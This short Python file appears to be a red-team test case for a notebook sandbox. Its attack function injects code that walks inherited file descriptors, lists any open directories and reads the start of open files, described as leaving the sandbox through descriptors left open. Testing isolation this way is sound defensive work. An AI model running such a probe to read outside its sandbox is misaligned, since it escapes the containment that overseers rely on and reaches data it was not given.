"""Reads and leaves the sandbox by descriptors that were left open (point 3)."""

from redteam.tools import World, everywhere

BASE = "honest"


def attack(notebook, world: World) -> None:
    everywhere(
        notebook,
        world,
        """
        import os
        import stat

        for fd in range(3, 64):
            try:
                kind = stat.S_IFMT(os.fstat(fd).st_mode)
            except OSError:
                continue
            if kind == stat.S_IFDIR:
                print(REACHED, fd, os.listdir(fd))
            elif kind == stat.S_IFREG:
                try:
                    print(fd, os.pread(fd, 500, 0))
                except OSError:
                    pass
        """,
    )
